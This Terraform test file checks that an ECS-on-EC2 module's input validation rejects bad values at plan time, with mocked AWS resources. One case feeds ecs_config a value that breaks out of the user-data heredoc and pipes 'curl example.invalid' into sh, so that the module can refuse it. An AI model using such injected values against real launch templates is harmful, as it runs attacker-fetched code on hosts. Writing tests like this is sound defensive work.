# Bad inputs are refused at plan time with a message naming the problem.

mock_provider "aws" {
  # What the mocked SSM parameter returns: a made-up AMI ID. The module itself
  # reads the ECS-optimized AMI from its public SSM parameter, never an ID.
  mock_data "aws_ssm_parameter" {
    defaults = { value = "ami-0123456789abcdef0", insecure_value = "ami-0123456789abcdef0" }
  }
  mock_data "aws_partition" {
    defaults = { partition = "aws" }
  }
  # The provider checks ARN and ID syntax even with mocked values.
  mock_resource "aws_iam_role" {
    defaults = { arn = "arn:aws:iam::123456789012:role/wpecs-test-instance-1" }
  }
  mock_resource "aws_iam_instance_profile" {
    defaults = { arn = "arn:aws:iam::123456789012:instance-profile/wpecs-test-instance-1" }
  }
  mock_resource "aws_autoscaling_group" {
    defaults = { arn = "arn:aws:autoscaling:eu-west-1:123456789012:autoScalingGroup:11111111-2222-3333-4444-555555555555:autoScalingGroupName/wpecs-test-1" }
  }
  mock_resource "aws_security_group" {
    defaults = { id = "sg-0aaaaaaaaaaaaaaaa" }
  }
  mock_resource "aws_launch_template" {
    defaults = { id = "lt-0123456789abcdef0", latest_version = 1 }
  }
}

variables {
  name       = "wpecs-test"
  vpc_id     = "vpc-0123456789abcdef0"
  subnet_ids = ["subnet-0aaaaaaaaaaaaaaa1", "subnet-0aaaaaaaaaaaaaaa2"]
}

run "min_greater_than_max_is_refused" {
  command = plan
  variables {
    min_size = 5
    max_size = 2
  }
  expect_failures = [var.max_size]
}

run "desired_above_max_is_refused" {
  command = plan
  variables {
    desired_capacity = 9
  }
  expect_failures = [var.desired_capacity]
}

run "desired_below_min_is_refused" {
  command = plan
  variables {
    min_size         = 2
    desired_capacity = 1
  }
  expect_failures = [var.desired_capacity]
}

run "negative_min_is_refused" {
  command = plan
  variables {
    min_size = -1
  }
  expect_failures = [var.min_size]
}

run "target_capacity_zero_is_refused" {
  command = plan
  variables {
    target_capacity = 0
  }
  expect_failures = [var.target_capacity]
}

run "target_capacity_over_100_is_refused" {
  command = plan
  variables {
    target_capacity = 101
  }
  expect_failures = [var.target_capacity]
}

run "hop_limit_zero_is_refused" {
  command = plan
  variables {
    metadata_hop_limit = 0
  }
  expect_failures = [var.metadata_hop_limit]
}

run "name_with_reserved_prefix_is_refused" {
  command = plan
  variables {
    name = "ecs-prod"
  }
  expect_failures = [var.name]
}

run "overriding_ecs_cluster_is_refused" {
  command = plan
  variables {
    ecs_config = { ECS_CLUSTER = "someone-else" }
  }
  expect_failures = [var.ecs_config]
}

run "ecs_config_injection_is_refused" {
  command = plan
  variables {
    ecs_config = { ECS_LOGLEVEL = "info\nECSCONFIG\ncurl example.invalid | sh" }
  }
  expect_failures = [var.ecs_config]
}

run "ecs_config_bad_key_is_refused" {
  command = plan
  variables {
    ecs_config = { "loglevel" = "debug" }
  }
  expect_failures = [var.ecs_config]
}

run "reversed_port_range_is_refused" {
  command = plan
  variables {
    dynamic_port_range = { from_port = 60000, to_port = 32768 }
  }
  expect_failures = [var.dynamic_port_range]
}

run "privileged_port_range_is_refused" {
  command = plan
  variables {
    dynamic_port_range = { from_port = 22, to_port = 65535 }
  }
  expect_failures = [var.dynamic_port_range]
}

run "small_root_volume_is_refused" {
  command = plan
  variables {
    root_volume = { size_gib = 8 }
  }
  expect_failures = [var.root_volume]
}

run "unknown_container_insights_is_refused" {
  command = plan
  variables {
    container_insights = "on"
  }
  expect_failures = [var.container_insights]
}

run "bad_source_security_group_is_refused" {
  command = plan
  variables {
    ingress_source_security_group_ids = ["0.0.0.0/0"]
  }
  expect_failures = [var.ingress_source_security_group_ids]
}

run "no_subnets_is_refused" {
  command = plan
  variables {
    subnet_ids = []
  }
  expect_failures = [var.subnet_ids]
}

run "bad_vpc_id_is_refused" {
  command = plan
  variables {
    vpc_id = "my-vpc"
  }
  expect_failures = [var.vpc_id]
}

run "refresh_without_room_above_100_is_refused" {
  command = plan
  variables {
    instance_refresh = { max_healthy_percentage = 100 }
  }
  expect_failures = [var.instance_refresh]
}

run "refresh_without_warmup_is_refused" {
  command = plan
  variables {
    instance_refresh = { instance_warmup = 0 }
  }
  expect_failures = [var.instance_refresh]
}

run "unknown_architecture_is_refused" {
  command = plan
  variables {
    architecture = "aarch64"
  }
  expect_failures = [var.architecture]
}

run "arm64_with_an_x86_instance_type_is_refused" {
  command = plan
  variables {
    architecture  = "arm64"
    instance_type = "t3.medium"
  }
  expect_failures = [var.instance_type]
}

run "x86_64_with_a_graviton_instance_type_is_refused" {
  command = plan
  variables {
    instance_type = "m7g.large"
  }
  expect_failures = [var.instance_type]
}

run "arm64_with_an_x86_spot_type_is_refused" {
  command = plan
  variables {
    architecture  = "arm64"
    instance_type = "t4g.medium"
    spot          = { enabled = true, instance_types = ["t4g.medium", "m7i.large"] }
  }
  expect_failures = [var.spot]
}

run "an_ecs_ami_of_the_other_architecture_is_refused" {
  command = plan
  variables {
    ami_ssm_parameter_name = "/aws/service/ecs/optimized-ami/amazon-linux-2023/arm64/recommended/image_id"
  }
  expect_failures = [var.ami_ssm_parameter_name]
}
